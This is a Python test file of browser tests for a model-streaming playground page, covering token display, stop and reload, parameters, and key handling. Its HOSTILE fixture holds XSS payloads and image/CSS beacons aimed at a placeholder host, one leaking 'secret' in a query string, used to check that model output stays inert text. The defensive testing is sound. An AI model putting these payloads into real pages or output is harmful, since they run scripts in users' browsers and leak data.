"""The page in Chromium: what it shows, and what it lets a model do."""

from __future__ import annotations

import pytest

from streamkit.testing import EmulatedEndpoint, ScriptedToken
from streamkit.transforms import RepairText, ScrubEos, SkipSpecialTokens, SplitReasoning, StopSequences

CHAIN = (RepairText(byte_pieces=True), ScrubEos(), SkipSpecialTokens(), StopSequences("\nUser:"))

HOSTILE = (
    "<img src=x onerror=alert(1)>",
    "</script><script>alert(2)</script>",
    '<a href="javascript:alert(3)">here</a>',
    "![now](http://beacon.invalid/?q=secret)",
    '<img src="http://beacon.invalid/pixel">',
    "<style>@import url(http://beacon.invalid/style)</style>",
    "\u202eabc\u0000\u001b[31m",
)


def _script(*lines):
    return [
        line if isinstance(line, ScriptedToken) else ScriptedToken(line, id=number)
        for number, line in enumerate(lines, 100)
    ]


def test_answer_and_fates(open_site, page):
    """The clean answer is shown, and below it each raw token by what became of it."""
    lines = _script(
        ScriptedToken("<s>", special=True), "Hi", "\n", "Us", "e", " it", "<0xC3>", "<0xA9>", ".\nUs", "er: x", "!"
    )
    with EmulatedEndpoint(lines) as model, open_site(model, CHAIN) as site:
        page.open(site.url)
        page.send()
        page.wait_for_status("Done")
    assert page.answer == "Hi\nUse ité."
    assert page.chips == [
        ("<s>", "hidden"),
        ("Hi", "passed"),
        ("⏎", "released"),
        ("Us", "released"),
        ("e", "released"),
        ("·it", "passed"),
        ("<0xC3>", "joined"),
        ("<0xA9>", "joined"),
        (".⏎Us", "cut"),
        ("er:·x", "cut"),
    ]
    assert len(page.all("#timeline line")) == 10
    assert page.find("#first-token").text.endswith("ms")
    assert page.find("#reason").text == "stop_sequence ⏎User:"


def test_token_is_seen_while_it_is_held(open_site, page):
    """A token that may become a stop sequence is there before anybody knows what will become of it."""
    with EmulatedEndpoint(_script("Hi", "\nUs", "ing"), gate=True) as model, open_site(model, CHAIN) as site:
        page.open(site.url)
        page.send()
        model.release(2)
        page.wait(lambda: page.chips == [("Hi", "passed"), ("⏎Us", "held")])
        assert page.answer == "Hi"
        assert page.find("#answer").get_attribute("aria-busy") == "true"
        page.find("#token-1").click()
        assert [row.text for row in page.all("#detail tr")][-2:] == ["SkipSpecialTokens ⏎Us", "StopSequences holds it"]
        model.release()
        page.wait_for_status("Done")
    assert page.chips[1:] == [("⏎Us", "released"), ("ing", "passed")]
    assert page.answer == "Hi\nUsing"


def test_way_of_a_token_through_the_chain(open_site, page):
    """A chosen token shows its text behind each transform, and which one changed it."""
    with EmulatedEndpoint(_script(ScriptedToken("<s>", special=True), "Hi")) as model, open_site(model, CHAIN) as site:
        page.open(site.url)
        page.send()
        page.wait_for_status("Done")
    page.find("#token-0").click()
    assert "hidden by SkipSpecialTokens" in page.find("#detail").text
    rows = [row.text for row in page.all("#detail tr")]
    assert rows == [
        "the model <s>",
        "RepairText <s>",
        "ScrubEos <s>",
        "SkipSpecialTokens no text",
        "StopSequences no text",
    ]
    assert page.find("#detail [data-did=true] th").text == "SkipSpecialTokens"


def test_token_that_was_taken_out(open_site, page):
    """A token that a transform swallowed says which one did, and that no later one saw it."""
    chain = (SplitReasoning(), ScrubEos())
    with EmulatedEndpoint(["<think>", "hm", "</think>", "Hi"]) as model, open_site(model, chain) as site:
        page.open(site.url)
        page.send()
        page.wait_for_status("Done")
    page.find("#token-0").click()
    assert [row.text for row in page.all("#detail tr")] == [
        "the model <think>",
        "SplitReasoning took it out",
        "ScrubEos –",
    ]
    assert page.find("#reasoning").get_property("textContent") == "hm"


def test_parameters_reach_the_model(open_site, page):
    """What is set in the form is asked of the model, and a stop sequence is cut."""
    with EmulatedEndpoint(_script("one", "\ntwo", " three")) as model, open_site(model, CHAIN) as site:
        page.open(site.url)
        for name, value in {"max-new-tokens": "7", "temperature": "0.5", "stop": r"\ntwo|never"}.items():
            page.find(f"#{name}").clear()
            page.find(f"#{name}").send_keys(value)
        page.send("How?")
        page.wait_for_status("Done")
        asked = model.requests[-1].body
    assert page.answer == "one"
    assert asked["inputs"] == "How?"
    assert (asked["parameters"]["max_new_tokens"], asked["parameters"]["temperature"]) == (7, 0.5)


def test_hostile_output_stays_text(open_site, page):
    """Markup, scripts and image beacons of a model are shown as they are; nothing runs, and nothing is asked for."""
    from selenium.common.exceptions import NoAlertPresentException

    with EmulatedEndpoint(_script(*HOSTILE)) as model, open_site(model) as site:
        page.open(site.url)
        page.send("<b>x</b>")
        page.wait_for_status("Done")
        for chip in page.all("#tokens .chip"):
            chip.click()
        asked_for = page.asked_for
    assert page.answer == "".join(HOSTILE)
    with pytest.raises(NoAlertPresentException):
        page.browser.switch_to.alert.accept()
    assert not page.all("main img, main script, main a, main style, main iframe")
    assert {url for url in asked_for if not url.startswith(f"{site.url}/")} == set()
    assert page.browser.get_log("browser") == []


def test_policy_stops_markup_that_got_in(open_site, page):
    """Were a text made HTML of all the same, the browser would neither run it nor ask for anything."""
    from selenium.common.exceptions import NoAlertPresentException

    with EmulatedEndpoint() as model, open_site(model) as site:
        page.open(site.url)
        markup = "".join(HOSTILE) + f'<img src="{model.url}/pixel" onerror="alert(4)"><p style="color:red">x</p>'
        page.browser.execute_script("document.querySelector('#answer').innerHTML = arguments[0]", markup)
        refused = page.browser.execute_async_script(
            "fetch(arguments[0], {mode: 'no-cors'}).then(() => arguments[1](false), () => arguments[1](true))",
            f"{model.url}/health",
        )
        page.wait(lambda: any("style" in entry["message"] for entry in page.browser.get_log("browser")))
        assert refused
        assert model.requests == []
    with pytest.raises(NoAlertPresentException):
        page.browser.switch_to.alert.accept()


@pytest.mark.parametrize("how", ["button", "Escape"])
def test_stop_reaches_the_model(open_site, page, how):
    """Stop ends the answer here and at the model, and keeps what has been said."""
    with EmulatedEndpoint(["word "] * 100, gate=True) as model, open_site(model) as site:
        page.open(site.url)
        page.send()
        seen = model.wait_for_request()
        model.release(3)
        page.wait(lambda: page.answer == "word word word ")
        if how == "button":
            page.find("#stop-button").click()
        else:
            page.find("#prompt").send_keys("\ue00c")
        assert seen.client_left.wait(1)
        page.wait_for_status("Stopped after 3 tokens")
    assert page.answer == "word word word "
    assert page.find("#answer").get_attribute("aria-busy") == "false"
    assert not page.find("#stop-button").is_enabled()


def test_reload_resumes(open_site, page):
    """A page that is loaded again in the middle of an answer shows it whole, with each token once, and can stop it."""
    with (
        EmulatedEndpoint(["word "] * 100, gate=True) as model,
        open_site(model, resumable=True) as site,
    ):
        page.open(site.url)
        page.send("Again?")
        seen = model.wait_for_request()
        model.release(3)
        page.wait(lambda: page.answer == "word word word ")
        page.browser.refresh()
        page.wait(lambda: page.answer == "word word word ")
        assert page.find("#prompt").get_property("value") == "Again?"
        model.release(2)
        page.wait(lambda: len(page.chips) == 5)
        assert page.answer == "word " * 5
        assert not seen.client_left.is_set()
        page.find("#stop-button").click()
        assert seen.client_left.wait(1)
        page.browser.refresh()
        page.wait_for_status("stopped")
        assert page.answer == "word " * 5
        assert len(model.requests) == 1


@pytest.mark.parametrize("resumable", [True, False])
def test_stop_before_the_first_token(open_site, page, resumable):
    """Stop reaches the model while it thinks, whether the gateway keeps answers or not."""
    with EmulatedEndpoint(["word "], gate=True) as model, open_site(model, resumable=resumable) as site:
        page.open(site.url)
        page.send()
        seen = model.wait_for_request()
        page.find("#stop-button").click()
        assert seen.client_left.wait(1)
        page.wait_for_status("Stopped after 0 tokens")


def test_reload_resumes_nothing_elsewhere(open_site, page):
    """Where the gateway keeps no answers, a page that is loaded again starts anew, and asks for nothing."""
    with EmulatedEndpoint(_script("Hi")) as model, open_site(model) as site:
        page.open(site.url)
        page.send()
        page.wait_for_status("Done")
        page.browser.refresh()
        page.wait(lambda: page.all("#pipeline option"))
        assert page.status == "Nothing has been asked yet."
        assert page.browser.get_log("browser") == []


def test_failures_are_told(open_site, page):
    """A model that cannot be reached is told in a sentence, as an error."""
    with EmulatedEndpoint() as model:
        pass
    with EmulatedEndpoint() as alive, open_site(alive) as site:
        page.open(site.url)
        alive.stop()
        page.send()
        page.wait_for_status("The model's server cannot be reached.")
    assert page.find("#status").get_attribute("data-kind") == "error"
    assert model.requests == []


def test_key_is_asked_for_and_not_kept(open_site, page, monkeypatch):
    """A gateway with keys serves the page to all and answers to those with a key, which no storage keeps."""
    monkeypatch.setenv("PLAYGROUND_KEY", "k-123")
    with (
        EmulatedEndpoint(_script("Hi")) as model,
        open_site(model, keys={"one": {"env": "PLAYGROUND_KEY"}}) as site,
    ):
        page.open(site.url)
        assert page.all("#pipeline option") == []
        page.find("#key").send_keys("k-123\t")
        page.wait(lambda: page.all("#pipeline option"))
        page.send()
        page.wait_for_status("Done")
        kept = page.browser.execute_script(
            "return JSON.stringify([{...localStorage}, {...sessionStorage}]) + document.cookie + location"
        )
    assert page.answer == "Hi"
    assert "k-123" not in kept
